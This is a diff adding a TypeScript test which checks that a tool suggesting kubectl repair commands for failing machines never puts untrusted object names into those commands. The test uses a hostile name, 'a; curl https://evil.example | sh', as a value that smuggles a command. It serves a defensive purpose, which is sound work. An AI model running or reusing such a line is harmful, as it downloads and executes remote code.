@@ -413,3 +413,32 @@ test('an unhealthy machine past its time waits for its pool to let it be replace
     'its time is over: it is Failed when its pool may replace it, and not while most machines are Unknown',
   );
 });
+
+test('no line to copy has a name that only refers to an object and that none is called', () => {
+  const name = 'a; curl https://evil.example | sh';
+  const spec = { class: { kind: 'MachineClass', name } };
+  const joining = {
+    currentStatus: { phase: 'Pending' as const, lastUpdateTime: minutesAgo(14) },
+    lastOperation: { ...running.lastOperation, state: 'Processing' as const },
+  };
+  const troubles: Changes[] = [
+    { spec, status: refused('InvalidArgument', 'no such class') },
+    { spec, status: refused('Unauthenticated', 'not you') },
+    {
+      metadata: ownedBy('MachineSet', name),
+      spec: { providerID: 'virtual:///a/i-1' },
+      status: joining,
+    },
+  ];
+  const lines = troubles.flatMap((changes) =>
+    findingsOf(aMachine('a', changes)).flatMap(({ commands }) => commands),
+  );
+  expect(lines.join('\n')).not.toContain('curl');
+  expect(lines).toEqual(
+    expect.arrayContaining([
+      'kubectl -n shoot edit machineclass NAME',
+      expect.stringMatching(/get machineclass NAME -o/),
+      expect.stringMatching(/patch machineset NAME --type/),
+    ]),
+  );
+});
